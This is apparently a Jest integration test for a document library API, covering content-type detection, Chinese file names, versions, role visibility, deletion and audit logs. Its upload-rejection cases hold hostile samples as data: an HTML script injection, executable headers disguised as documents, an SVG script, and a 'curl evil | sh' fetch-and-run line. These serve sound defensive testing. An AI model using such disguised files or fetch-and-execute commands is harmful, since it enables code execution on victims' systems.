import { createHash } from 'node:crypto';
import { AbilityFactory } from '../../src/access/ability.factory';
import type { Principal } from '../../src/access/principal';
import type { Role } from '../../src/access/role';
import { FileChunk } from '../../src/files/entities/file-chunk.entity';
import { FileRecord } from '../../src/files/entities/file-record.entity';
import { DocumentsApi } from '../../src/modules/documents/documents.api';
import { PDF, createDocument, download, pdfOfSize, uploadFile } from '../support/document-factory';
import { TestApp, TestUser } from '../support/test-app';

const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');

/**
 * The document library (§1.2 l): uploads whose type is read from their bytes, byte-exact
 * streamed downloads under Chinese names, versions, visibility by role, soft delete by the
 * uploader or a manager, and every download in the audit history.
 */
describe('document library (§1.2 l)', () => {
  let t: TestApp;
  let clerk: TestUser;
  let otherClerk: TestUser;
  let coordinator: TestUser;
  let finance: TestUser;
  let manager: TestUser;

  beforeAll(async () => {
    t = await TestApp.start({
      configure: (config) => {
        // Small, so that a test crosses it without holding 50 MB.
        config.documents.maxFileMb = 1;
      },
    });
    clerk = await t.createUser('clerk');
    otherClerk = await t.createUser('clerk');
    coordinator = await t.createUser('coordinator');
    finance = await t.createUser('finance');
    manager = await t.createUser('manager');
  });
  afterAll(() => t.close());

  const fileRows = () =>
    Promise.all([
      t.dataSource.getRepository(FileRecord).count(),
      t.dataSource.getRepository(FileChunk).count(),
    ]);
  const audits = async (action: string, entityId: number) =>
    (
      await t
        .get(`/api/admin/audit-logs?action=${action}&entityId=${entityId}`, manager.accessToken)
        .expect(200)
    ).body.items as { actorId: number; meta: Record<string, unknown> }[];

  it('gives back the bytes uploaded, under their Chinese name, streamed and audited', async () => {
    const bytes = pdfOfSize(300 * 1024);
    const upload = await uploadFile(t, clerk, bytes, '2026 员工手册（定稿）.pdf').expect(201);
    expect(upload.body).toMatchObject({ size: bytes.length, contentType: 'application/pdf' });
    const document = await createDocument(t, clerk, {
      title: '员工手册',
      description: '新员工入职必读',
      tags: ['入职', '制度'],
    });
    expect(document).toMatchObject({
      title: '员工手册',
      tags: ['入职', '制度'],
      visibleRoles: null,
      versionCount: 1,
      mayChange: true,
    });
    const created = await t
      .post('/api/documents', clerk.accessToken, { fileId: upload.body.fileId })
      .expect(201);
    expect(created.body.current).toMatchObject({
      fileName: '2026 员工手册（定稿）.pdf',
      sha256: sha256(bytes),
    });

    const answer = await download(t, coordinator, `/api/documents/${created.body.id}/download`);
    expect(answer.status).toBe(200);
    expect(Buffer.compare(answer.body as Buffer, bytes)).toBe(0);
    expect(answer.headers['content-type']).toBe('application/pdf');
    expect(answer.headers['x-content-type-options']).toBe('nosniff');
    expect(answer.headers['content-disposition']).toBe(
      `attachment; filename="document-${created.body.id}-v1.pdf"; filename*=UTF-8''${encodeURIComponent('2026 员工手册（定稿）.pdf').replace(/[()]/g, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`)}`,
    );
    expect(await audits('document.download', created.body.id)).toEqual([
      expect.objectContaining({
        actorId: coordinator.id,
        meta: expect.objectContaining({ number: 1, versionId: created.body.current.id }),
      }),
    ]);
  });

  it.each([
    [
      'HTML named report.pdf',
      Buffer.from('<!DOCTYPE html><html><script>alert(1)</script></html>'),
      'report.pdf',
      'application/pdf',
    ],
    [
      'an ELF program named 手册.pdf',
      Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(256)]),
      '手册.pdf',
      'application/pdf',
    ],
    [
      'a PE program named notes.docx',
      Buffer.concat([Buffer.from('MZ'), Buffer.alloc(256)]),
      'notes.docx',
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    ],
    [
      'a shell script named readme.txt',
      Buffer.from('#!/bin/sh\ncurl evil | sh\n'),
      'readme.txt',
      'text/plain',
    ],
    [
      'SVG named logo.png',
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'),
      'logo.png',
      'image/png',
    ],
  ])('refuses %s with 415, in Chinese, keeping nothing', async (_case, bytes, name, declared) => {
    const before = await fileRows();
    const answer = await uploadFile(t, clerk, bytes, name, declared).expect(415);
    expect(answer.body.message).toMatch(/不能上传可执行程序、脚本或网页/);
    expect(await fileRows()).toEqual(before);
  });

  it('refuses a zip, and a name that does not fit the content', async () => {
    const zip = Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(128)]);
    expect((await uploadFile(t, clerk, zip, 'forms.zip').expect(415)).body.message).toMatch(
      /只接受/,
    );
    expect((await uploadFile(t, clerk, PDF, 'setup.exe').expect(415)).body.message).toMatch(
      /与文件内容/,
    );
    await uploadFile(t, clerk, Buffer.from('名称,数量\n手册,2\n'), '清单.csv').expect(201);
  });

  it('refuses a file over the limit with 413, leaving no file row or chunk behind', async () => {
    const before = await fileRows();
    const answer = await uploadFile(t, clerk, pdfOfSize(1024 * 1024 + 1)).expect(413);
    expect(answer.body.message).toMatch(/超过 1 MB/);
    expect(await fileRows()).toEqual(before);
    await uploadFile(t, clerk, pdfOfSize(1024 * 1024)).expect(201);
  });

  it('keeps every version: the new one is current, the old ones listable and downloadable', async () => {
    const first = await createDocument(t, clerk, { title: '报名表' });
    const second = Buffer.from('名称,数量\n报名表第二版,1\n');
    const upload = await uploadFile(t, clerk, second, '报名表-第二版.csv').expect(201);
    const versioned = await t
      .post(`/api/documents/${first.id}/versions`, clerk.accessToken, {
        fileId: upload.body.fileId,
        note: '更新了联系电话',
      })
      .expect(201);
    expect(versioned.body).toMatchObject({
      versionCount: 2,
      current: { number: 2, contentType: 'text/csv', note: '更新了联系电话' },
    });
    const versions = await t.get(`/api/documents/${first.id}/versions`, finance.accessToken);
    expect(versions.body.items.map((v: { number: number }) => v.number)).toEqual([2, 1]);
    const old = await download(
      t,
      finance,
      `/api/documents/${first.id}/versions/${first.current.id}/download`,
    ).expect(200);
    expect(Buffer.compare(old.body as Buffer, PDF)).toBe(0);
    const now = await download(t, finance, `/api/documents/${first.id}/download`).expect(200);
    expect(Buffer.compare(now.body as Buffer, second)).toBe(0);
    // An upload is taken once; another's upload not at all.
    await t
      .post(`/api/documents/${first.id}/versions`, clerk.accessToken, {
        fileId: upload.body.fileId,
      })
      .expect(422);
    const foreign = await uploadFile(t, otherClerk).expect(201);
    await t.post('/api/documents', clerk.accessToken, { fileId: foreign.body.fileId }).expect(422);
  });

  it('shows a document to the roles it names, its uploader and managers only', async () => {
    const hidden = await createDocument(t, clerk, {
      title: '财务制度（内部）',
      visibleRoles: ['finance'],
    });
    const listed = async (who: TestUser) =>
      (
        await t.get('/api/documents?q=财务制度&pageSize=200', who.accessToken).expect(200)
      ).body.items.map((d: { id: number }) => d.id);
    for (const who of [finance, clerk, manager]) expect(await listed(who)).toContain(hidden.id);
    for (const who of [coordinator, otherClerk]) {
      expect(await listed(who)).not.toContain(hidden.id);
      await t.get(`/api/documents/${hidden.id}`, who.accessToken).expect(404);
      await t.get(`/api/documents/${hidden.id}/versions`, who.accessToken).expect(404);
      await t.get(`/api/documents/${hidden.id}/download`, who.accessToken).expect(404);
      await t
        .get(`/api/documents/${hidden.id}/versions/${hidden.current.id}/download`, who.accessToken)
        .expect(404);
    }
    await download(t, finance, `/api/documents/${hidden.id}/download`).expect(200);
    // Shown to everyone once the uploader says so.
    await t
      .patch(`/api/documents/${hidden.id}`, clerk.accessToken, {
        visibleRoles: null,
        version: hidden.version,
      })
      .expect(200);
    expect(await listed(coordinator)).toContain(hidden.id);
  });

  it('filters by tag and folder', async () => {
    const folder = (
      await t.post('/api/documents/folders', clerk.accessToken, { name: '话术%_模板' }).expect(201)
    ).body;
    const tagged = await createDocument(t, clerk, { tags: ['100%_话术'], folderId: folder.id });
    await createDocument(t, clerk, { tags: ['100'] });
    const byTag = await t.get(
      `/api/documents?tag=${encodeURIComponent('100%_话术')}`,
      clerk.accessToken,
    );
    expect(byTag.body.items.map((d: { id: number }) => d.id)).toEqual([tagged.id]);
    const inFolder = await t.get(`/api/documents?folderId=${folder.id}`, clerk.accessToken);
    expect(inFolder.body.items.map((d: { id: number }) => d.id)).toEqual([tagged.id]);
  });

  it('lets the uploader or a manager delete a document, nobody else, and audits it', async () => {
    const mine = await createDocument(t, clerk);
    await t
      .http()
      .delete(`/api/documents/${mine.id}`)
      .set('Authorization', `Bearer ${otherClerk.accessToken}`)
      .expect(403);
    await t
      .http()
      .delete(`/api/documents/${mine.id}`)
      .set('Authorization', `Bearer ${coordinator.accessToken}`)
      .expect(403);
    await t
      .patch(`/api/documents/${mine.id}`, otherClerk.accessToken, {
        title: '改名',
        version: mine.version,
      })
      .expect(403);
    await t
      .http()
      .delete(`/api/documents/${mine.id}`)
      .set('Authorization', `Bearer ${clerk.accessToken}`)
      .expect(204);
    for (const who of [clerk, manager, coordinator])
      await t.get(`/api/documents/${mine.id}`, who.accessToken).expect(404);
    await t.get(`/api/documents/${mine.id}/download`, manager.accessToken).expect(404);

    const theirs = await createDocument(t, otherClerk);
    await t
      .http()
      .delete(`/api/documents/${theirs.id}`)
      .set('Authorization', `Bearer ${manager.accessToken}`)
      .expect(204);
    expect(await audits('document.delete', theirs.id)).toEqual([
      expect.objectContaining({ actorId: manager.id }),
    ]);
  });

  it('tells other modules (the bulletin board) which of some documents a user may see', async () => {
    const open = await createDocument(t, clerk, { title: '公开' });
    const financeOnly = await createDocument(t, clerk, {
      title: '财务',
      visibleRoles: ['finance'],
    });
    const gone = await createDocument(t, clerk);
    await t
      .http()
      .delete(`/api/documents/${gone.id}`)
      .set('Authorization', `Bearer ${clerk.accessToken}`)
      .expect(204);
    const abilities = t.app.get(AbilityFactory);
    const principal = (who: TestUser): Principal =>
      ({
        id: who.id,
        role: who.role as Role,
        ability: abilities.createFor({ role: who.role as Role, grants: null, denials: null }),
      }) as Principal;
    const api = t.app.get(DocumentsApi);
    const ids = [financeOnly.id, open.id, gone.id, 999_999];
    expect(await api.visibleAmong(principal(coordinator), ids)).toEqual([
      {
        id: open.id,
        title: '公开',
        fileName: '员工手册.pdf',
        size: PDF.length,
        contentType: 'application/pdf',
      },
    ]);
    expect((await api.visibleAmong(principal(finance), ids)).map((d) => d.id)).toEqual([
      financeOnly.id,
      open.id,
    ]);
  });
});
